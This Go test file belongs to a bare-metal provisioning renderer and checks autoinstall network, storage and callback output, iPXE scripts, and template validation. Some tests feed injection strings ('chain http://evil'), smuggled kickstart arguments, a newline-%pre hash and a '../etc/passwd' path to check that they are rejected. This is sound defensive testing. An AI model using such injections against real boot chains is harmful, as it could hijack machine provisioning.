package render

import (
	"errors"
	"io/fs"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"gopkg.in/yaml.v3"

	"github.com/racklift/racklift/profiles"
	"github.com/racklift/racklift/provision/nodeapi"
	"github.com/racklift/racklift/provision/plan"
	"github.com/racklift/racklift/templates"
)

// userData is the part of an autoinstall user-data the tests look at.
type userData struct {
	Autoinstall struct {
		Version int `yaml:"version"`
		Network struct {
			Version   int `yaml:"version"`
			Ethernets map[string]struct {
				Match     map[string]string `yaml:"match"`
				SetName   string            `yaml:"set-name"`
				MTU       int               `yaml:"mtu"`
				Addresses []string          `yaml:"addresses"`
				Routes    []map[string]string
			} `yaml:"ethernets"`
			Bonds map[string]struct {
				Interfaces []string       `yaml:"interfaces"`
				MTU        int            `yaml:"mtu"`
				Parameters map[string]any `yaml:"parameters"`
			} `yaml:"bonds"`
			VLANs map[string]struct {
				ID        int      `yaml:"id"`
				Link      string   `yaml:"link"`
				MTU       int      `yaml:"mtu"`
				Addresses []string `yaml:"addresses"`
				Routes    []map[string]string
			} `yaml:"vlans"`
		} `yaml:"network"`
		Storage struct {
			Layout struct {
				Name  string            `yaml:"name"`
				Match map[string]string `yaml:"match"`
			} `yaml:"layout"`
		} `yaml:"storage"`
		SSH struct {
			InstallServer bool `yaml:"install-server"`
		} `yaml:"ssh"`
		Reporting     map[string]map[string]string `yaml:"reporting"`
		EarlyCommands []string                     `yaml:"early-commands"`
		LateCommands  []string                     `yaml:"late-commands"`
		ErrorCommands []string                     `yaml:"error-commands"`
		Timezone      string                       `yaml:"timezone"`
		Packages      []string                     `yaml:"packages"`
		UserData      map[string]any               `yaml:"user-data"`
	} `yaml:"autoinstall"`
}

func renderUserData(t *testing.T, r *Renderer, p *plan.Plan, name string) (userData, string) {
	t.Helper()
	n, ok := p.NodeByName(name)
	if !ok {
		t.Fatalf("no node %s", name)
	}
	b, err := r.File(p, n, nodeapi.FileUserData, testEnv(n))
	if err != nil {
		t.Fatal(err)
	}
	var ud userData
	if err := yaml.Unmarshal(b, &ud); err != nil {
		t.Fatal(err)
	}
	return ud, string(b)
}

func TestAutoinstallNetwork(t *testing.T) {
	r := newTestRenderer(t)
	p := loadExample(t, "hyperconverged")
	ud, _ := renderUserData(t, r, p, "hci-compute-06")
	ai := ud.Autoinstall
	if ai.Version != 1 || ai.Network.Version != 2 {
		t.Fatalf("versions: autoinstall %d, network %d", ai.Version, ai.Network.Version)
	}
	eno1 := ai.Network.Ethernets["eno1"]
	if eno1.Match["macaddress"] != "b8:ca:3a:20:00:06" || eno1.SetName != "eno1" {
		t.Errorf("eno1 not matched by MAC with set-name: %+v", eno1)
	}
	if len(eno1.Addresses) != 1 || eno1.Addresses[0] != "10.10.0.106/24" || len(eno1.Routes) != 1 || eno1.Routes[0]["via"] != "10.10.0.1" || eno1.Routes[0]["to"] != "0.0.0.0/0" {
		t.Errorf("eno1 address/route: %+v", eno1)
	}
	for _, m := range []string{"ens1f0", "ens1f1"} {
		if e, ok := ai.Network.Ethernets[m]; !ok || e.MTU != 9000 || len(e.Addresses) != 0 {
			t.Errorf("bond member %s: %+v", m, e)
		}
	}
	bond := ai.Network.Bonds["bond0"]
	if strings.Join(bond.Interfaces, ",") != "ens1f0,ens1f1" || bond.MTU != 9000 || bond.Parameters["mode"] != "802.3ad" || bond.Parameters["mii-monitor-interval"] != 100 {
		t.Errorf("bond0: %+v", bond)
	}
	want := map[string]struct {
		id   int
		addr string
	}{"bond0.30": {30, "10.10.30.106/24"}, "bond0.31": {31, "10.10.31.106/24"}, "bond0.40": {40, "10.10.40.106/24"}}
	if len(ai.Network.VLANs) != len(want) {
		t.Errorf("vlans: %+v", ai.Network.VLANs)
	}
	for name, w := range want {
		v := ai.Network.VLANs[name]
		if v.ID != w.id || v.Link != "bond0" || v.MTU != 9000 || len(v.Addresses) != 1 || v.Addresses[0] != w.addr || len(v.Routes) != 0 {
			t.Errorf("vlan %s: %+v", name, v)
		}
	}
	if ai.Timezone != "Asia/Shanghai" || !ai.SSH.InstallServer {
		t.Errorf("timezone %q, ssh %+v", ai.Timezone, ai.SSH)
	}
}

func TestAutoinstallStorageAndCallbacks(t *testing.T) {
	r := newTestRenderer(t)
	hp := loadExample(t, "hyperconverged")
	ud, raw := renderUserData(t, r, hp, "hci-compute-06")
	ai := ud.Autoinstall
	if ai.Storage.Layout.Name != "lvm" || ai.Storage.Layout.Match["id_path"] != "pci-0000:3b:00.0-scsi-0:2:0:0" || len(ai.Storage.Layout.Match) != 1 {
		t.Errorf("storage: %+v", ai.Storage)
	}
	wipes := 0
	for _, c := range ai.EarlyCommands {
		if strings.Contains(c, "wipefs -a") {
			wipes++
		}
	}
	if wipes != 6 {
		t.Errorf("%d OSD wipes in early-commands, want 6", wipes)
	}
	wh := ai.Reporting["racklift"]
	if wh["type"] != "webhook" || wh["endpoint"] != "http://10.99.0.1:8080/phone-home/b8:ca:3a:20:00:06/installer?token=test-token-hci-compute-06" {
		t.Errorf("reporting: %+v", ai.Reporting)
	}
	last := ai.LateCommands[len(ai.LateCommands)-1]
	if !strings.Contains(last, "'X-Racklift-Token: test-token-hci-compute-06'") || !strings.Contains(last, "/phone-home/b8:ca:3a:20:00:06/installed") {
		t.Errorf("late-commands callback: %s", last)
	}
	if len(ai.ErrorCommands) != 1 || !strings.Contains(ai.ErrorCommands[0], "/phone-home/b8:ca:3a:20:00:06/error") {
		t.Errorf("error-commands: %v", ai.ErrorCommands)
	}
	if !strings.Contains(ai.LateCommands[0], "/target/etc/sysctl.d/90-racklift.conf") {
		t.Errorf("sysctl late-command missing: %v", ai.LateCommands)
	}
	users, _ := ai.UserData["users"].([]any)
	if len(users) != 1 || ai.UserData["hostname"] != "hci-compute-06" {
		t.Errorf("user-data: %+v", ai.UserData)
	}
	if !strings.Contains(raw, testRootHash) {
		t.Error("root hash missing from user-data")
	}

	p := loadPlan(t, diskPlan)
	ud, _ = renderUserData(t, r, p, "dk-02")
	ai = ud.Autoinstall
	if ai.Storage.Layout.Match["path"] != "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4" {
		t.Errorf("by-id storage match: %+v", ai.Storage.Layout.Match)
	}
	var resolved, wiped bool
	for _, c := range ai.EarlyCommands {
		resolved = resolved || strings.Contains(c, "readlink -f '/dev/disk/by-id/wwn-0x5000c500a1b2c3d4'") && strings.Contains(c, "/autoinstall.yaml")
		wiped = wiped || strings.Contains(c, `$2=="WIPEME0003"`) && strings.Contains(c, "wipefs -a")
		if strings.Contains(c, "/dev/sdc") {
			t.Errorf("OSD /dev/sdc (wipe: false) touched: %s", c)
		}
	}
	if !resolved || !wiped {
		t.Errorf("early-commands: resolve by-id %v, wipe by serial %v: %v", resolved, wiped, ai.EarlyCommands)
	}
	ud, _ = renderUserData(t, r, p, "dk-03")
	if m := ud.Autoinstall.Storage.Layout.Match; m["serial"] != "UBUOS0004" || len(m) != 1 {
		t.Errorf("serial storage match: %+v", m)
	}
}

func TestFileNamesAndNotExist(t *testing.T) {
	r := newTestRenderer(t)
	p := loadExample(t, "lab")
	rocky, _ := p.NodeByName("lab-01")
	ubuntu, _ := p.NodeByName("lab-03")
	if got, _ := r.FileNames(rocky); strings.Join(got, " ") != "boot.ipxe ks.cfg user-data meta-data" {
		t.Errorf("rocky files: %v", got)
	}
	if got, _ := r.FileNames(ubuntu); strings.Join(got, " ") != "boot.ipxe user-data meta-data vendor-data" {
		t.Errorf("ubuntu files: %v", got)
	}
	for _, c := range []struct {
		n    *plan.Node
		name string
	}{{ubuntu, nodeapi.FileKickstart}, {rocky, nodeapi.FileVendorData}, {rocky, "../etc/passwd"}, {rocky, ""}} {
		if _, err := r.File(p, c.n, c.name, testEnv(c.n)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s %q: err %v, want fs.ErrNotExist", c.n.Name, c.name, err)
		}
	}
	bad := *rocky
	bad.Profile = "nope"
	if _, err := r.File(p, &bad, nodeapi.FileIPXE, testEnv(rocky)); !errors.Is(err, ErrNoProfile) {
		t.Errorf("unknown profile: %v", err)
	}
	media, paths := r.BootFiles(rocky)
	if media != "rocky9" || strings.Join(paths, " ") != "images/pxeboot/vmlinuz images/pxeboot/initrd.img" {
		t.Errorf("BootFiles: %s %v", media, paths)
	}
}

func TestIPXEScripts(t *testing.T) {
	r := newTestRenderer(t)
	p := loadExample(t, "lab")
	n, _ := p.NodeByName("lab-03")
	b, err := r.File(p, n, nodeapi.FileIPXE, testEnv(n))
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	for _, want := range []string{
		"kernel --name kernel http://10.99.0.1:8080/media/ubuntu2404/casper/vmlinuz initrd=initrd0 ip=dhcp url=http://10.99.0.1:8080/media/ubuntu2404.iso autoinstall ds=nocloud-net;s=http://10.99.0.1:8080/ci/52:54:00:99:00:03/ ",
		"initrd --name initrd0 http://10.99.0.1:8080/media/ubuntu2404/casper/initrd || goto failed",
		"\nboot || goto failed\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("boot.ipxe lacks %q:\n%s", want, s)
		}
	}
	lb := string(r.LocalBoot(n))
	for _, want := range []string{"#!ipxe\n", "iseq ${platform} efi", "sanboot --no-describe --drive 0x80", "\nexit 1\n"} {
		if !strings.Contains(lb, want) {
			t.Errorf("local boot lacks %q:\n%s", want, lb)
		}
	}
	if strings.Contains(lb, "kernel") {
		t.Errorf("local boot must not load a kernel:\n%s", lb)
	}
	um := string(r.UnknownMAC("52-54-00-AB-CD-EF"))
	if !strings.Contains(um, "MAC 52:54:00:ab:cd:ef") || !strings.HasSuffix(um, "\nexit 1\n") {
		t.Errorf("unknown MAC script:\n%s", um)
	}
	for _, evil := range []string{"'; chain http://evil/x", "aa:bb\nchain http://evil", "${x}"} {
		s := string(r.UnknownMAC(evil))
		if strings.Contains(s, "evil") || strings.Contains(s, "${x}") || !strings.Contains(s, "MAC unknown") {
			t.Errorf("unknown MAC %q not neutralised:\n%s", evil, s)
		}
	}
}

func TestEnvRejectsUnsafeValues(t *testing.T) {
	r := newTestRenderer(t)
	p := loadExample(t, "lab")
	n, _ := p.NodeByName("lab-01")
	ok := testEnv(n)
	cases := map[string]Env{
		"no server":      {Token: ok.Token},
		"server quote":   {ServerURL: "http://x'y", Token: ok.Token},
		"server space":   {ServerURL: "http://10.0.0.1 inst.ks=x", Token: ok.Token},
		"server scheme":  {ServerURL: "file:///etc", Token: ok.Token},
		"no token":       {ServerURL: ok.ServerURL},
		"token quote":    {ServerURL: ok.ServerURL, Token: "a'b"},
		"token space":    {ServerURL: ok.ServerURL, Token: "a b"},
		"hash newline":   {ServerURL: ok.ServerURL, Token: ok.Token, RootHash: "$6$a$b\n%pre"},
		"hash quote":     {ServerURL: ok.ServerURL, Token: ok.Token, RootHash: `$6$a$"b`},
		"media override": {ServerURL: ok.ServerURL, Token: ok.Token, MediaURL: "http://m/ x"},
	}
	for name, env := range cases {
		_, err := r.Files(p, n, env)
		if err == nil {
			t.Errorf("%s: accepted", name)
			continue
		}
		if env.RootHash != "" && strings.Contains(err.Error(), "$6$") {
			t.Errorf("%s: error echoes the hash: %v", name, err)
		}
	}
	if err := CheckServerURL("http://[fd00::1]:8080/racklift"); err != nil {
		t.Errorf("IPv6 server URL: %v", err)
	}
}

// TestEveryProfileRenders renders every built-in profile, plus a custom
// installer-none profile from a --profiles-dir, for a storage node.
func TestEveryProfileRenders(t *testing.T) {
	custom := fstest.MapFS{"rescue.yaml": {Data: []byte(`name: rescue
description: a rescue image
installer: none
kernel: vmlinuz
initrd: [initrd.img, extra.img]
args: "console=ttyS0 racklift.node={{.Node}} racklift.config={{.ConfigURL}}"
`)}}
	profs, err := profiles.Load(profiles.Builtin(), custom)
	if err != nil {
		t.Fatal(err)
	}
	r, err := New(templates.FS(), profs)
	if err != nil {
		t.Fatal(err)
	}
	p := loadExample(t, "hyperconverged")
	base, _ := p.NodeByName("hci-compute-01")
	for _, name := range profs.Names() {
		n := *base
		n.Profile = name
		files, err := r.Files(p, &n, testEnv(&n))
		if err != nil {
			t.Fatalf("profile %s: %v", name, err)
		}
		prof, _ := profs.Get(name)
		if len(files) != len(fileNames(prof, &n)) {
			t.Errorf("profile %s: %d files", name, len(files))
		}
	}
	n := *base
	n.Profile = "rescue"
	b, err := r.File(p, &n, nodeapi.FileIPXE, testEnv(&n))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), "initrd=initrd0 initrd=initrd1 console=ttyS0 racklift.node=hci-compute-01 racklift.config= ") {
		t.Errorf("rescue boot.ipxe:\n%s", b)
	}
}

func TestNewFailsFast(t *testing.T) {
	profs, err := profiles.Load(profiles.Builtin())
	if err != nil {
		t.Fatal(err)
	}
	good, err := fs.ReadFile(templates.FS(), "kickstart.ks.tmpl")
	if err != nil {
		t.Fatal(err)
	}
	all := fstest.MapFS{}
	names, _ := fs.Glob(templates.FS(), "*.tmpl")
	for _, n := range names {
		b, _ := fs.ReadFile(templates.FS(), n)
		all[n] = &fstest.MapFile{Data: b}
	}
	for name, mutate := range map[string]func(m fstest.MapFS){
		"syntax": func(m fstest.MapFS) { m["kickstart.ks.tmpl"] = &fstest.MapFile{Data: []byte("{{.Node.Name")} },
		"missing field": func(m fstest.MapFS) {
			m["kickstart.ks.tmpl"] = &fstest.MapFile{Data: append(good, []byte("{{.Nope}}\n")...)}
		},
		"bad yaml":      func(m fstest.MapFS) { m["meta-data.tmpl"] = &fstest.MapFile{Data: []byte("a: [\n")} },
		"no header":     func(m fstest.MapFS) { m["vendor-data.tmpl"] = &fstest.MapFile{Data: []byte("{}\n")} },
		"missing":       func(m fstest.MapFS) { delete(m, "first-boot.cloud-config.tmpl") },
		"no local boot": func(m fstest.MapFS) { delete(m, "local-boot.ipxe.tmpl") },
	} {
		m := fstest.MapFS{}
		for k, v := range all {
			m[k] = v
		}
		mutate(m)
		if _, err := New(m, profs); err == nil {
			t.Errorf("%s: New accepted broken templates", name)
		}
	}
}

// TestConcurrentRender renders two plans from many goroutines (the HTTP
// server's pattern); run with -race.
func TestConcurrentRender(t *testing.T) {
	r := newTestRenderer(t)
	plans := []*plan.Plan{loadExample(t, "lab"), loadExample(t, "hyperconverged")}
	want := map[string]string{}
	for _, p := range plans {
		for _, n := range p.Nodes {
			b, err := r.File(p, n, nodeapi.FileUserData, testEnv(n))
			if err != nil {
				t.Fatal(err)
			}
			want[n.Name] = string(b)
		}
	}
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 20 {
				p := plans[(g+i)%2]
				n := p.Nodes[i%len(p.Nodes)]
				b, err := r.File(p, n, nodeapi.FileUserData, testEnv(n))
				if err != nil {
					t.Error(err)
					return
				}
				if string(b) != want[n.Name] {
					t.Errorf("%s: concurrent render differs", n.Name)
				}
			}
		}()
	}
	wg.Wait()
}
